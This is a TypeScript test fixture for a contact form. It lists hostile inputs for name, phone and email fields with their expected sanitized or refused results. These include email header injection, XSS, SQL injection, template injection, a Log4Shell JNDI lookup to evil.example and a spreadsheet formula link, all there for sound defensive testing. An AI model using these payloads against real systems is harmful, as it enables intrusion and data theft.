// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the input holds template placeholders
import type { ContactRequest } from 'contact/contact-request.ts';

import { asPageForm } from '../../support/calls/contact-calls.ts';
import { formTexts, good, json, type NamedCall } from '../../support/calls/named-calls.ts';

type Texts = [typed: string, kept?: string][];

/** At most 50 characters, so that they fit in a first name, a last name and any text field. */
const names: Texts = [
  ['A\r\nBcc: x@evil.example', 'A Bcc: x@evil.example'],
  ['A\nCc: x@evil.example', 'A Cc: x@evil.example'],
  ['A\r\n\r\n<b>hello</b>', 'A  <b>hello</b>'],
  ['A\r\n.\r\nRCPT TO:<x@evil.example>', 'A . RCPT TO:<x@evil.example>'],
  ['A\u2028Bcc: x@evil.example', 'A Bcc: x@evil.example'],
  ['A%0d%0aBcc:%20x@evil.example'],
  ['=?utf-8?q?A=0D=0ABcc:x@evil.example?='],
  ['=?utf-8?q?=3Cx@evil.example=3E?= é'],
  ['"Bank" <x@evil.example>'],
  ['x@evil.example,'],
  ['Team: x@evil.example, y@evil.example;'],
  ['A\\\\\\'],
  ['(A) x@evil.example (B'],
  ['<@a.example,@b.example:x@evil.example>'],
  ['<script>alert(1)</script>'],
  ['" onmouseover="alert(1)'],
  ['&lt;script&gt; &amp;amp; &#60; &nbsp;'],
  ["'); DROP TABLE requests; --"],
  ['{{7*7}}${7*7}<%= 7*7 %>#{7*7}'],
  ["$& $1 $` $' $$ \\1 %s %n {0}"],
  ['${jndi:ldap://evil.example/a}'],
  ['A\n{"level":60,"msg":"forged"}', 'A {"level":60,"msg":"forged"}'],
  ['\u001b[31mA\u001b]0;B\u0007\u009b2J', '[31mA]0;B2J'],
  ['=HYPERLINK("https://evil.example";"A")'],
  ['A\ud83dB'],
  ['A\uFFFE\uFFFF\u{10FFFF}'],
  [`A${'\u0301'.repeat(49)}`],
];

/** Ten to twenty characters. */
const phones: Texts = [
  ['06\r\nBcc: x@y.example', '06 Bcc: x@y.example'],
  ['<img src=x onerror>0'],
  ['0612" onclick="a=1"'],
  ['javascript:alert(06)'],
  ['0612345678;ext=1?a&b'],
  ['=?utf-8?q?=0D=0A06?='],
  ['06\u000012345678', '0612345678'],
];

const emails: Texts = [
  ['a@x.nl\u0000\u0085', 'a@x.nl'],
  ['Bcc\u0000:y <a@x.nl>\r\n', 'a@x.nl'],
  ['a,b@x.nl'],
  ['a@x.nl,evil.example'],
  ['<a>@x.nl'],
  ['Team:a@x.nl;', 'Team:a@x.nl'],
  ['"a,b"@x.nl'],
  ['a@[127.0.0.1]'],
  ['a@x.nl?bcc=b%40evil.example&body=1', 'a@x.nl'],
  ['"onmouseover="alert(1)"@x.nl'],
  ['a\\@x.nl'],
  ['=?utf-8?q?a=0D=0A?=@x.nl'],
  ['a\ud83d@x.nl'],
  ['a\u202E@x.nl', 'a@x.nl'],
];

const refusedEmails = [
  ...['a@x.nl,b@evil.example', 'a@x.nl<b@evil.example>', 'Anne <a@x.nl', '"a@b"@x.nl'],
  ...[
    'a@x.nl\r\nBcc:y',
    'a@x.nl\r\n Bcc: b@evil.example',
    'a@x.nl\u2028Bcc:b',
    '<@evil.example:a@x.nl>',
  ],
];

const anyText = formTexts
  .filter(([, { kind, pattern, max }]) => kind !== 'phone' && pattern === undefined && max >= 50)
  .map(([name]) => name);

export const injections: NamedCall[] = [
  ...anyText.flatMap((field) => accepted(field, names)),
  ...accepted('phone', phones),
  ...accepted('email', emails),
  ...refusedEmails.map((email): NamedCall => {
    return [`email ${JSON.stringify(email)}`, json({ email }), { invalid: ['email'] }];
  }),
  ...names.map(([typed, kept = typed]): NamedCall => {
    // `URLSearchParams` replaces lone surrogates.
    const request = { ...good, firstName: 'Form', lastName: kept.toWellFormed() };
    const body = new URLSearchParams({ ...request, lastName: typed, idempotencyKey: typed });
    const call = { headers: asPageForm, body: body.toString() };
    return [`a form whose lastName is ${JSON.stringify(typed)}`, call, request];
  }),
];

function accepted(field: keyof ContactRequest, texts: Texts): NamedCall[] {
  return texts.map(([typed, kept = typed]): NamedCall => {
    const call = json({ [field]: typed });
    return [`${field} ${JSON.stringify(typed)}`, call, { ...good, [field]: kept }];
  });
}
